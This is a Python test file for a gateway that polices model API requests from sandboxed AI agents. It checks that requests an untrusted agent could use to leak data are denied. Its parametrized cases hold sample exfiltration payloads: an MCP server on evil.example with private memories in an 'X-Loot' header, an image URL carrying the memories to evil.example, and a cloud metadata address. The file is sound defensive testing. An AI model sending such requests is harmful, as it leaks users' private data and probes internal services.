"""A hostile box reaching other hosts through the model API (issue 11 #4), through the real gateway.

Hosted tools and image URLs make the provider fetch what the box names, with the imp's context in the
request. The gateway refuses them as a -32010 denial that names the matched rule, before any upstream call,
reservation or cost; an operator can name image hosts in a rule.
"""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from box.protocol import ErrorCode, RpcError
from box.protocol.models import ModelRequestParams, ModelRequestResult
from impyard.backends import BoxSpec
from impyard.clock import FixedClock
from impyard.gateway.broker import UpstreamConfig
from impyard.gateway.core import Gateway
from impyard.gateway.policy import Policy, build_policy, default_policy_path, load_policy
from impyard.gateway.surfaces import RecordingSurface
from impyard.host import build_gateway
from impyard.storage.db import open_database
from testing.fake_openai import FakeOpenAI, envelope
from tests import sqlfile

KEY = "sk-impyard-test-hostile-egress-3b7e"
pytestmark = [pytest.mark.anyio, pytest.mark.fake_model(key=KEY)]
SPEC = BoxSpec("pip", "c1", Path("/nonexistent"), run_id="hostile")
MEMORIES = "pip's private memories: ann's address is 12 Owl Lane"
SAY = {"role": "user", "content": MEMORIES}


def gateway_for(tmp_path: Path, fake: FakeOpenAI, policy: Policy) -> Gateway:
    return build_gateway(
        policy=policy, db=open_database(tmp_path / "impyard.db"), surface=RecordingSurface(),
        clock=FixedClock(datetime(2026, 5, 10, 12, 0, tzinfo=UTC)),
        upstream=UpstreamConfig(base_url=fake.base_url, api_key=KEY), secrets=[KEY],
    )  # fmt: skip


def _vision(url: str) -> dict[str, Any]:
    content = [{"type": "text", "text": MEMORIES}, {"type": "image_url", "image_url": {"url": url}}]
    return {
        "model": "gpt-4.1",
        "messages": [{"role": "user", "content": content}],
        "max_completion_tokens": 50,
    }


@pytest.mark.parametrize(
    ("path", "body", "reason"),
    [
        pytest.param("/responses", {"model": "gpt-4.1", "input": MEMORIES, "tools": [
            {"type": "mcp", "server_label": "x", "server_url": "https://evil.example/mcp", "require_approval": "never",
             "headers": {"X-Loot": MEMORIES}}]}, "tool type 'mcp' is not allowed", id="mcp-server"),
        pytest.param("/responses", {"model": "gpt-4.1", "input": MEMORIES, "tools": [{"type": "web_search"}]},
                     "tool type 'web_search'", id="web-search"),
        pytest.param("/responses", {"model": "gpt-4.1", "input": MEMORIES, "tools": [{"type": "code_interpreter", "container": {"type": "auto"}}]},
                     "tool type 'code_interpreter'", id="code-interpreter"),
        pytest.param("/chat/completions", _vision(f"https://evil.example/pixel.png?m={MEMORIES}"), "only inline data:image/",
                     id="image-url-to-any-host"),
        pytest.param("/chat/completions", _vision("http://169.254.169.254/latest/meta-data/"), "a 'http' URL is not allowed",
                     id="image-url-plain-http"),
        pytest.param("/chat/completions", {"model": "gpt-4.1", "messages": [SAY], "web_search_options": {}},
                     "body key 'web_search_options'", id="chat-web-search"),
        pytest.param("/responses", {"model": "gpt-4.1", "input": [{"role": "user", "content": [
            {"type": "input_file", "file_url": "https://evil.example/report.pdf"}]}]}, "content part type 'input_file'", id="file-url"),
    ],
)  # fmt: skip
async def test_a_body_that_reaches_beyond_the_prompt_is_refused_by_the_rule_before_the_upstream(
    tmp_path: Path, fake: FakeOpenAI, path: str, body: dict, reason: str
) -> None:
    gateway = gateway_for(tmp_path, fake, load_policy())
    with pytest.raises(RpcError) as caught:
        await gateway.serve(SPEC, "model.request", ModelRequestParams(path=path, body=body, purpose="reply"))  # type: ignore[arg-type]
    error = caught.value
    assert error.code == ErrorCode.DENIED
    assert error.data["rule"] == "model-text" and reason in error.data["reason"], error.data
    assert error.message.startswith("denied by policy rule model-text: ")
    assert fake.requests == [] and sqlfile.query(gateway.db, "SELECT count(*) FROM ledger")[0][0] == 0
    [row] = sqlfile.query(gateway.db, "SELECT verdict, rule, reason FROM audit")
    assert (row["verdict"], row["rule"]) == ("denied", "model-text") and reason in row["reason"]
    await gateway.aclose()
    gateway.db.close()


async def test_an_operator_can_name_image_hosts_and_each_image_is_reserved_at_its_worst_case(
    tmp_path: Path, fake: FakeOpenAI
) -> None:
    default = default_policy_path()
    ops = (
        '[[rules]]\nname = "vision-cdn"\nmethod = "model.request"\naction = "allow"\npaths = ["/chat/completions"]\n'
        'purposes = { reply = ["gpt-4.1"] }\nmax_tokens = 50\nimage_hosts = ["cdn.example.org"]\n'
    )
    gateway = gateway_for(
        tmp_path, fake, build_policy([("ops.toml", ops), (str(default), default.read_text())])
    )
    fake.script(
        envelope(answer="a cat"), purpose="reply", usage={"prompt_tokens": 900, "completion_tokens": 5}
    )
    result = await gateway.serve(
        SPEC,
        "model.request",
        ModelRequestParams(
            path="/chat/completions", body=_vision("https://cdn.example.org/cat.png"), purpose="reply"
        ),
    )
    assert isinstance(result, ModelRequestResult) and result.status == 200
    [row] = sqlfile.query(gateway.db, "SELECT reserved_micros FROM ledger")
    assert (
        row["reserved_micros"] >= 1600 * 2
    )  # gpt-4.1's image_input_tokens in the default price table, at $2/M
    with pytest.raises(RpcError) as caught:  # any other host is still refused, by the same rule
        await gateway.serve(
            SPEC,
            "model.request",
            ModelRequestParams(
                path="/chat/completions", body=_vision("https://evil.example/x.png"), purpose="reply"
            ),
        )
    assert caught.value.code == ErrorCode.DENIED and caught.value.data["rule"] == "vision-cdn"
    assert len(fake.requests) == 1
    await gateway.aclose()
    gateway.db.close()
